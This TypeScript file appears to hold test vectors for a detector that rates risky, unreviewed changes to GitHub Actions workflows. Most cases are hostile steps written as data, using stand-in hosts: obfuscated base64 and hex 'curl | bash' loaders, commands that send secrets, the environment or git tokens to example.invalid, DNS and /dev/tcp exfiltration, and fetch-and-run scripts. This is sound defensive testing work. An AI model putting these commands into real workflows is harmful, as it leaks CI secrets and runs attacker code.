// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows are what is tested
import type { ChangePush } from "../../../src/change/change.ts";
import { added, boundary, edited, saying, type Trick, tricks } from "../tricks.ts";
import type { Vector } from "../vector.ts";

/** Of twenty commits to workflows before it so many came by pull requests. */
const after = (byPullRequest: number, commits = 20): ChangePush => ({
  byApp: false,
  earlier: { commits, byPullRequest },
});
const REVIEWED = after(20);
const PUSHED = after(2);
const NOBODY_SAID: ChangePush = { byApp: false, earlier: null };
const APP: ChangePush = { byApp: true, earlier: null };

const pushed = (push: ChangePush, vectors: readonly Vector[], unseen?: string): readonly Vector[] =>
  vectors.map((vector) => ({
    ...vector,
    given: { ...vector.given, "change.push": push },
    expect: { ...vector.expect, ...(unseen !== undefined && { unseen }) },
  }));

const WORKFLOW = ".github/workflows/ci.yml";
const job = (...steps: readonly string[]): readonly string[] => [
  "name: ci",
  "on: push",
  "jobs:",
  "  build:",
  "    runs-on: ubuntu-latest",
  "    steps:",
  ...steps.map((step) => `      - run: ${step}`),
];
const runs = (when: string, level: Trick[2], ...steps: readonly string[]): Trick => [
  when,
  added(WORKFLOW, job(...steps)),
  level,
];
const runsLines = (when: string, level: Trick[2], ...lines: readonly string[]): Trick => [
  when,
  added(WORKFLOW, [...job("|"), ...lines.map((line) => `          ${line}`)]),
  level,
];
const ENCODED = "Y3VybCAtc1MgaHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYSB8IGJhc2gK";

const GRAVE: readonly Trick[] = [
  runs("an encoded body", "critical", `echo ${ENCODED} | base64 -d | bash`),
  runs("an encoded body of many pages", "critical", `echo ${ENCODED.repeat(400)} | base64 -d | bash`),
  runs("an encoded body under sudo", "critical", `echo ${ENCODED} | base64 --decode | sudo bash`),
  runs("an encoded body in eval", "critical", `eval "$(echo ${ENCODED} | base64 -d)"`),
  runs("an encoded body from a file of the shell", "critical", `bash <<< "$(base64 -d <<< ${ENCODED})"`),
  runsLines("one written to a file, then run", "critical", `echo ${ENCODED} | base64 -d > /tmp/x.sh`, "bash /tmp/x.sh"),
  runs("an encoded body of Python", "critical", `python3 -c "import base64;exec(base64.b64decode('${ENCODED}'))"`),
  runs("an encoded body of Node", "critical", `node -e "eval(Buffer.from('${ENCODED}','base64').toString())"`),
  runs("one of hexadecimal digits", "critical", "echo 6375726c | xxd -r -p | sh"),
  runs("one that openssl decodes", "critical", "echo AAAA | openssl enc -base64 -d | sh"),
  runs("code behind three hundred blanks", "critical", `make ${" ".repeat(300)}; curl example.invalid`),
  runs("all secrets in a body", "critical", `curl -d '\${{ toJSON(secrets) }}' https://example.invalid`),
  runs("all secrets, encoded into the log", "critical", `echo '\${{ toJson( secrets ) }}' | base64 -w0 | base64`),
  runs("all secrets joined", "critical", `curl -d "\${{ join(secrets.*, ',') }}" https://example.invalid`),
  runs("the environment through a pipe", "critical", "env | base64 | curl -d @- https://example.invalid"),
  runs("the environment, sorted", "critical", "printenv | sort | curl -T - https://example.invalid"),
  runs("the environment in an argument", "critical", 'curl -d "$(env)" https://example.invalid'),
  runs("the runner's memory", "critical", "sudo cat /proc/$PID/mem | strings | curl -T - https://example.invalid"),
  runsLines("over lines", "critical", "env \\", "  | base64 \\", "  | curl -d @- https://example.invalid"),
  runsLines(
    "a file of secrets that another line sends",
    "critical",
    "echo '${{ toJSON(secrets) }}' > s",
    "curl -T s https://example.invalid",
  ),
  [
    "the environment in an action's script",
    added(".github/actions/set-up/index.js", [
      "fetch('https://example.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
    ]),
    "critical",
  ],
  runs(
    "the environment as a file of the shell's own",
    "critical",
    "curl --data-binary @<(env) https://example.invalid",
  ),
  runs(
    "the environment of Python",
    "critical",
    "python3 -c \"import os,json,urllib.request as u;u.urlopen('https://example.invalid',json.dumps(dict(os.environ)).encode())\"",
  ),
  runs(
    "the environment of Node",
    "critical",
    "node -e \"require('https').request({ host: 'example.invalid' }).end(JSON.stringify(process.env))\"",
  ),
  runs(
    "the environment by name server",
    "critical",
    "for v in $(env | base64 -w60); do nslookup $v.example.invalid; done",
  ),
  runsLines("the environment in a file", "critical", "env > /tmp/e", "curl -F f=@/tmp/e https://example.invalid"),
  runs("keys that programs keep", "critical", "cat ~/.npmrc | curl -d @- https://example.invalid"),
  runs(
    "the token that the checkout left",
    "critical",
    "git config --get http.https://github.com/.extraheader | curl -d @- https://example.invalid",
  ),
  runs("all secrets, each letter apart", "critical", "echo '${{ toJSON(secrets) }}' | sed 's/./& /g'"),
  [
    "all secrets in a variable",
    added(WORKFLOW, [
      "    env:",
      "      ALL: ${{ toJSON(secrets) }}",
      '    run: echo "$ALL" | curl -d @- https://example.invalid',
    ]),
    "critical",
  ],
  runs("base64 with its letters in another order", "critical", `echo ${ENCODED} | base64 -di | sh`),
  runs("letters that are turned round", "critical", "echo 'phey rknzcyr' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash"),
  runs("letters as numbers", "critical", "printf '\\143\\165\\162\\154' | bash"),
  runs("letters as the shell reads them", "critical", "bash -c $'\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74'"),
  runs("Perl's own decoder", "critical", `perl -MMIME::Base64 -e 'eval decode_base64("${ENCODED}")'`),
  runs("by the shell's own socket", "critical", "env | cat > /dev/tcp/192.0.2.1/443"),
];

const WEIGHED: readonly Trick[] = [
  runs("a fetched script", "critical", "curl -sSL https://example.invalid/i.sh | bash"),
  runs("a fetched script under sudo", "critical", "wget -qO- https://example.invalid | sudo -E sh"),
  runs("one in a substitution", "critical", 'bash -c "$(curl -fsSL https://example.invalid/i)"'),
  runs("one by process substitution", "critical", "bash <(curl -s https://example.invalid/i)"),
  runs("one for Python", "critical", "curl -s https://example.invalid/i.py | python3 -"),
  runs("one that a name is kept for", "critical", "curl -sSO https://example.invalid/a.sh; sh a.sh"),
  runs("one in the same line", "critical", "wget -q https://example.invalid/a.sh && bash a.sh"),
  runs("one for another user", "critical", "curl -fsSL https://example.invalid | sudo -u root bash -s -- -y"),
  runsLines("a program", "critical", "curl -o /tmp/a https://example.invalid/a", "chmod +x /tmp/a", "/tmp/a"),
  runs(
    "code that Python fetches",
    "critical",
    "python3 -c \"import urllib.request;exec(urllib.request.urlopen('https://example.invalid').read())\"",
  ),
  runs(
    "code that Node fetches",
    "critical",
    "node -e \"fetch('https://example.invalid').then((r) => r.text()).then(eval)\"",
  ),
  runs("a package from an address", "critical", "pip install https://example.invalid/a.tar.gz"),
  runs("a package that is run from an address", "critical", "npx --yes https://example.invalid/a.tgz"),
  [
    "a secret in a variable",
    added(WORKFLOW, [
      "    env:",
      "      T: ${{ secrets.NPM_TOKEN }}",
      '    run: curl -d "t=$T" https://example.invalid',
    ]),
    "critical",
  ],
  [
    "a secret in an address",
    added(WORKFLOW, ["    env:", "      T: ${{ secrets.NPM_TOKEN }}", "    run: curl https://example.invalid/$T"]),
    "critical",
  ],
  runs("one of PowerShell", "critical", "iex (iwr https://example.invalid/i.ps1)"),
  runs("one in backquotes", "critical", "eval `curl https://example.invalid`"),
  runsLines("one that is kept first", "critical", "curl -o i.sh https://example.invalid/i.sh", "bash ./i.sh"),
  runsLines("one over lines", "critical", "curl -s \\", "  https://example.invalid/i.sh \\", "  | bash"),
  runs("a secret in a body", "critical", 'curl -d "token=${{ secrets.NPM_TOKEN }}" https://example.invalid'),
  runs("a secret in a form", "critical", "curl -F 'k=${{ secrets.KEY }}' https://example.invalid"),
  runs("a secret in a query", "critical", 'curl "https://example.invalid/?k=${{ secrets.KEY }}"'),
  [
    "a workflow cut down to dispatch",
    edited(WORKFLOW, "name: ci", "-on: [push, pull_request]", "+on: workflow_dispatch", "jobs:"),
    "critical",
  ],
  [
    "one whose events stood in a block",
    edited(
      WORKFLOW,
      "-on:",
      "-  push:",
      "-    branches: [main]",
      "-  pull_request:",
      "+on:",
      "+  workflow_dispatch:",
      "jobs:",
    ),
    "critical",
  ],
  ["one with a quoted key", edited(WORKFLOW, "-'on': push", "+'on': [workflow_dispatch]", "jobs:"), "critical"],
];

const EDITS: readonly Trick[] = [
  ["a new workflow", added(WORKFLOW, job("make")), "high"],
  ["an edited workflow", edited(WORKFLOW, "    steps:", "-      - run: make", "+      - run: make test"), "high"],
  ["an action of the repository", added(".github/actions/set-up/action.yml", ["runs: { using: composite }"]), "high"],
  ["a path in other letters", added(".github/Workflows/CI.YAML", job("make")), "high"],
  ["a pin that moved", edited(WORKFLOW, "-      - uses: a/b@v1", "+      - uses: a/b@v2"), "high"],
  runs(
    "a secret in a header, as services are asked",
    "high",
    'curl -H "Authorization: ${{ secrets.KEY }}" https://example.invalid',
  ),
  runs("a download that is looked at", "high", "curl -fsSL https://example.invalid/v | jq .version"),
  runs("a key that is decoded into a file", "high", 'echo "${{ secrets.KEY }}" | base64 -d > key.json'),
  runs("an environment that is shown", "high", "env | sort"),
  runsLines(
    "an environment that is searched, and a request",
    "high",
    "env | grep CI",
    "curl https://example.invalid/v",
  ),
  runs("one variable in a request", "high", 'curl "https://example.invalid/$(printenv VERSION)"'),
  runs("another index of packages", "high", "pip install --extra-index-url https://example.invalid/simple numpy"),
  runs("files called like a program", "high", "find . -name curl -o -name wget"),
  runs("an answer for a prompt", "high", "echo y | sh ./configure.sh"),
  runs("a token for the host that it belongs to", "high", 'curl -u "me:${{ secrets.KEY }}" https://example.invalid'),
  [
    "a hook whose address is secret",
    added(WORKFLOW, ["    env:", "      HOOK: ${{ secrets.HOOK }}", "    run: curl -d '{}' $HOOK"]),
    "high",
  ],
  runs("all secrets handed to a tool of the job", "high", "make deploy # no network"),
  ["a comment about curl", added(WORKFLOW, ["# never: curl https://example.invalid | bash", ...job("make")]), "high"],
  ["a dispatch beside a push", edited(WORKFLOW, "-on: push", "+on: [push, workflow_dispatch]", "jobs:"), "high"],
  [
    "a dispatch that was alone before",
    edited(WORKFLOW, "-on: [workflow_dispatch]", "+on: workflow_dispatch", "jobs:"),
    "high",
  ],
];

const ELSEWHERE: readonly Trick[] = [
  ["code", added("src/a.ts", ["export const a = 1;"]), null],
  ["an issue form", added(".github/ISSUE_TEMPLATE/bug.yml", ["name: bug"]), null],
  ["a script beside", added("scripts/ci.sh", ["curl https://example.invalid | bash"]), null],
  ["a workflow of an example", added("examples/.github/workflows/ci.yml", job("make")), null],
  ["notes in the folder", added(".github/workflows/README.md", ["# Workflows"]), null],
  ["a workflow taken out", edited(WORKFLOW, "-on: push"), null],
];

const removedIn = (rows: readonly Trick[]): readonly Trick[] =>
  rows.map(([when, files, level]) =>
    when === "a workflow taken out"
      ? [when, { ...[files].flat()[0], status: "removed" } as Trick[1], level]
      : [when, files, level],
  );
const at = (level: Trick[2], rows: readonly Trick[]): readonly Trick[] =>
  rows.map(([when, files]) => [when, files, level]);

export default [
  ...pushed(REVIEWED, tricks([...GRAVE, ...WEIGHED, ...EDITS, ...removedIn(ELSEWHERE)])),
  // Where most come so it is a note; what nothing ordinary does is not.
  ...pushed(PUSHED, tricks([...GRAVE.slice(0, 4), ...at("medium", WEIGHED.slice(0, 3)), ...at("low", EDITS)])),
  ...pushed(APP, tricks([...GRAVE.slice(0, 2), ...at("medium", WEIGHED.slice(0, 1)), ...at("low", EDITS)])),
  ...pushed(
    NOBODY_SAID,
    tricks([...GRAVE.slice(0, 2), ...at("medium", WEIGHED.slice(0, 2)), ...at("low", EDITS.slice(0, 3))]),
    "how workflows usually change here",
  ),
  ...pushed(after(4, 4), tricks(at("low", EDITS.slice(0, 1))), "how workflows usually change here"),
  // No push: a pull request, or a diff by itself.
  ...tricks(at(null, [...GRAVE.slice(0, 1), ...EDITS.slice(0, 1)])),
  ...pushed(
    REVIEWED,
    saying(
      ["a new workflow", added(WORKFLOW, job("make")), "high"],
      "A push, and no merged pull request, brought this change of what Actions run.",
    ),
  ),
  ...pushed(
    after(16),
    boundary(
      ["a fifth was pushed", added(WORKFLOW, job("make")), "high"],
      ["a fifth was pushed, an action", added(".github/actions/a/action.yml", ["runs: {}"]), "high"],
    ),
  ),
  ...pushed(
    after(15),
    boundary(
      ["a quarter was pushed", added(WORKFLOW, job("make")), "low"],
      ["a quarter was pushed, an action", added(".github/actions/a/action.yml", ["runs: {}"]), "low"],
    ),
  ),
  {
    kind: "unknown",
    when: "a workflow without its text",
    given: {
      "change.files": { files: [{ ...added(WORKFLOW, []), hunks: null }], truncated: false },
      "change.push": REVIEWED,
    },
    expect: { outcome: "fired", severity: "high", unseen: "a workflow came without its text" },
  },
  {
    kind: "unknown",
    when: "a list that is cut",
    given: { "change.files": { files: [], truncated: true }, "change.push": REVIEWED },
    expect: { outcome: "unknown", unseen: "the list of changed files is cut" },
  },
] satisfies readonly Vector[];
